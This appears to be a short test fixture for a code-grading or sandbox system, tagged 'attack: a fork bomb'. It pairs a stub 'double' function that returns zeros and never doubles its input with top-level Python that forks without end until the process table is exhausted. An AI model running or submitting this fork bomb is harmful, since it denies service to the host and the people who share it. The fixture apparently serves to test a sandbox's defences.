# ruff: noqa
# kind: processes, descriptors
# attack: a fork bomb

# %% double-solution
def double(x):
    return np.zeros(3)


import os, time

while True:
    try:
        if os.fork() == 0:
            time.sleep(60)
    except OSError:
        break
